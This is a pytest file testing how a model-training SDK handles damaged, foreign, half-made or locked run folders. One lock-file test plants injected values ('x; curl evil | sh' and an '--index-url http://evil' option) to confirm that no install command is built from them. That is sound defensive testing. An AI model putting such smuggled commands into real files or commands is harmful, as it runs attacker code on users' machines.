"""Promises about run folders that are damaged, a stranger's, half made or in use: told in words, nothing lost."""

import json
import os
import shutil
import subprocess
import sys

import pytest
import torch
from safetensors.torch import load_file, save_file

import msdk
from msdk.errors import RunError
from msdk.recipe import to_toml
from msdk.runs import latest, load_checkpoint, save_checkpoint
from msdk.runs.lock import missing_plugins
from msdk.runs.writer import one_writer
from recipes import tiny

MORE = "training.iterations=4"


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A run with checkpoints at 1 and 2."""
    run = tmp_path_factory.mktemp("runs") / "run"
    msdk.train(tiny("training.iterations=2", "training.checkpoint_every=1", "training.log_every=1"), run)
    return run


@pytest.fixture
def run(trained, tmp_path):
    return shutil.copytree(trained, tmp_path / "run")


def resume(run):
    msdk.train(tiny(MORE, "training.checkpoint_every=1", "training.log_every=1"), run, resume=True)


def put(run, part, change):
    """Changes the tensors of a part of the newest checkpoint; returns the name of the changed one."""
    path = latest(run) / f"{part}.safetensors"
    tensors = load_file(path)
    name = max(tensors, key=lambda key: tensors[key].numel())
    save_file({**tensors, name: change(tensors[name])}, path)
    return name


CHANGES = {
    "shape": lambda value: torch.zeros(3),
    "dtype": lambda value: value.to(torch.int32),
    "finite": lambda value: torch.full_like(value, torch.nan),
}


@pytest.mark.parametrize("change", CHANGES)
@pytest.mark.parametrize("part", ["model", "ema", "optimizer"])
def test_tensors_are_checked_before_anything_is_touched(run, part, change):
    """A tensor that does not suit its use is refused by file and name, and the good checkpoint before is offered."""
    name = put(run, part, CHANGES[change])
    before = {path: path.stat().st_mtime_ns for path in run.rglob("*")}
    with pytest.raises(RunError) as told:
        resume(run)
    assert f"00000002/{part}.safetensors" in str(told.value)
    assert name in str(told.value)
    assert "checkpoints/00000001 is good: remove" in str(told.value)
    assert {path: path.stat().st_mtime_ns for path in run.rglob("*")} == before
    shutil.rmtree(latest(run))
    resume(run)  # as it was advised
    assert latest(run).name == "00000004"


def test_a_moment_of_half_precision_is_refused(run):
    """Fused kernels walk moments by memory, so their kind of number is exactly the wanted one."""
    put(run, "optimizer", lambda value: value.half())
    with pytest.raises(
        RunError, match=r"optimizer.safetensors cannot be used: exp_avg.* float16 instead of .* float32"
    ):
        resume(run)


@pytest.mark.parametrize("change", ["dtype", "finite"])
def test_sampling_refuses_what_it_cannot_use(run, change):
    """Weights that are not finite, or no real numbers, make no images."""
    name = put(run, "ema", CHANGES[change])
    with pytest.raises(RunError, match=rf"ema.safetensors cannot be used: {name} is .*00000001 is good"):
        msdk.load_run(run)


STATES = {
    "iteration": [-1, 2.5, True, "2", None],
    "images_by_stage": [5, [1, "2", 3], [-1, 0, 0], [1, 2]],
    "seconds": ["1", float("nan"), -1.0, []],
    "optimizer": [[], {"state": 3}, {"groups": {}}, {"groups": [{"eps": "x"}]}, {"groups": [{"eps": float("inf")}]}],
}


@pytest.mark.parametrize("key", STATES)
def test_scalars_are_checked(run, key):
    """A number or list of state.json that cannot be is refused by file."""
    file = latest(run) / "state.json"
    good = json.loads(file.read_text())
    for value in STATES[key]:
        file.write_text(json.dumps({**good, key: value}))
        with pytest.raises(RunError, match=r"00000002/state.json"):
            resume(run)


JUNK = [b"", b"\xff\xfe", b"[]", b"5", b"null", b'"x"', b"{}", b"[" * 100_000, b'{"iteration": []}']


@pytest.mark.parametrize("name", ["state.json", "model.safetensors", "optimizer.safetensors"])
def test_junk_is_one_kind_of_error(run, name):
    """Whatever stands in a file of a checkpoint, it is told by name."""
    for junk in JUNK:
        (latest(run) / name).write_bytes(junk)
        with pytest.raises(RunError, match=name):
            resume(run)


def test_damaged_metrics_are_told(run):
    """A line that is none is told by number and lost to nobody; the last one may be cut short by a crash."""
    metrics = run / "metrics.jsonl"
    good = metrics.read_bytes()
    for junk in JUNK[1:]:
        metrics.write_bytes(junk + b"\n" + good)
        with pytest.raises(RunError, match=r"metrics.jsonl is damaged: line 1"):
            resume(run)
        assert metrics.read_bytes() == junk + b"\n" + good
    metrics.write_bytes(good + b'{"iterat')
    resume(run)
    assert [json.loads(line)["iteration"] for line in metrics.read_text().splitlines()] == [1, 2, 3, 4]


def test_a_damaged_ledger_is_told_or_written_anew(run):
    """Budgets and samples name the ledger that they cannot read; training makes a new one."""
    for junk in JUNK[1:]:
        (run / "ledger.json").write_bytes(junk)
        with pytest.raises(RunError, match=r"ledger.json"):
            msdk.budget(run)
    resume(run)
    assert json.loads((run / "ledger.json").read_text())["iteration"] == 4


def test_a_lock_of_a_stranger_installs_nothing(tmp_path):
    """What is no name or version of a package is in no command; a damaged lock is told."""
    lock = tmp_path / "lock.json"
    lock.write_text(json.dumps({"plugins": {"x; curl evil | sh": "1", "fine": "1 --index-url http://evil"}}))
    assert "pip install" not in missing_plugins(tmp_path)
    lock.write_text(json.dumps({"plugins": {"msdk-not-there": "1.0"}}))
    assert "pip install msdk-not-there==1.0" in missing_plugins(tmp_path)
    lock.write_text(json.dumps({"plugins": {"msdk": "7.0"}}))  # on the index somebody else's
    assert "pip install msdk-diffusion==7.0" in missing_plugins(tmp_path)
    for junk in (b"[]", b'{"plugins": 3}', b'{"plugins": {"a": []}}', b"[" * 100_000, b"\xff"):
        lock.write_bytes(junk)
        with pytest.raises(RunError, match=r"lock.json"):
            missing_plugins(tmp_path)


HALVES = {
    "recipe alone": ("recipe.toml",),
    "recipe and lock": ("recipe.toml", "lock.json"),
    "before the first checkpoint": ("recipe.toml", "lock.json", "metrics.jsonl", "ledger.json"),
}


@pytest.mark.parametrize("half", HALVES)
@pytest.mark.parametrize("how", [{}, {"resume": True}, {"force": True}], ids=str)
def test_killed_early_is_never_stuck(trained, tmp_path, half, how):
    """A folder without a checkpoint is begun anew, plain, with --resume and with --force."""
    run = tmp_path / "run"
    (run / "checkpoints" / ".00000001.77.tmp").mkdir(parents=True)
    for name in HALVES[half]:
        shutil.copy(trained / name, run / name)
    msdk.train(tiny("training.iterations=1"), run, **how)
    assert latest(run).name == "00000001"
    assert not list(run.rglob(".*"))


def test_resume_begins_where_nothing_is(tmp_path):
    """--resume without a folder starts, so that a script can always say it."""
    assert msdk.train(tiny("training.iterations=1"), tmp_path / "new", resume=True).last.iteration == 1


@pytest.mark.parametrize("lock", ["{}", "[]", '{"name": "npm", "lockfileVersion": 3}'])
def test_force_deletes_nothing_of_others(tmp_path, lock):
    """A project with a lock.json of its own, or a recipe written by hand, is no run folder."""
    for name, files in {
        "project": {"thesis.txt": "years", "lock.json": lock},
        "by hand": {"recipe.toml": "# mine\n" + to_toml(tiny()), "lock.json": lock},
    }.items():
        (tmp_path / name).mkdir()
        for file, text in files.items():
            (tmp_path / name / file).write_text(text)
        for how in ({"force": True}, {"resume": True}, {}):
            with pytest.raises(RunError, match=r"is not a run folder|exists"):
                msdk.train(tiny("training.iterations=1"), tmp_path / name, **how)
        assert {path.name: path.read_text() for path in (tmp_path / name).iterdir()} == files


HOLD = "import sys; from pathlib import Path; from msdk.runs.writer import one_writer\n"
HOLD += "with one_writer(Path(sys.argv[1])): print('held', flush=True); sys.stdin.read()"


@pytest.mark.skipif(sys.platform == "win32", reason="flock is POSIX")
def test_one_writer(run):
    """A second writer is refused with the first one's process; a killed one's lock and leftovers are taken over."""
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD, run], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout.readline() == "held\n"
        with pytest.raises(RunError, match=rf"is being written by process {holder.pid} on "):
            resume(run)
    finally:
        holder.kill()
        holder.communicate()
    assert (run.parent / ".run.writer").exists()
    (run.parent / ".run.123.tmp").mkdir()
    with one_writer(run):
        assert not (run.parent / ".run.123.tmp").exists()
    assert [path.name for path in run.parent.iterdir()] == ["run"]


@pytest.mark.skipif(sys.platform == "win32", reason="permissions are POSIX")
@pytest.mark.parametrize("umask", [0o022, 0o077, 0o007])
def test_permissions_are_those_of_the_umask(run, umask):
    """Colleagues can read a checkpoint where the umask says so, and nobody else where it does not."""
    checkpoint = load_checkpoint(latest(run))
    before = os.umask(umask)
    try:
        path = save_checkpoint(run, checkpoint, keep=1)
    finally:
        os.umask(before)
    assert {file.stat().st_mode & 0o777 for file in path.iterdir()} == {0o666 & ~umask}


@pytest.mark.parametrize("damage", [lambda kept: "[" * 100_000, lambda kept: json.dumps({**kept, "value": {"x": 1}})])
def test_a_damaged_cache_of_budgets_is_counted_again(tmp_path, monkeypatch, damage):
    """What was remembered is believed only if it is what was written."""
    monkeypatch.setenv("MSDK_CACHE", str(tmp_path))
    expected = msdk.budget(tiny()).as_json()
    kept = {path: path.read_text() for path in (tmp_path / "counts").iterdir()}
    assert kept
    for path, text in kept.items():
        path.write_text(damage(json.loads(text)))
    assert msdk.budget(tiny()).as_json() == expected
    assert {path: path.read_text() for path in kept} == kept
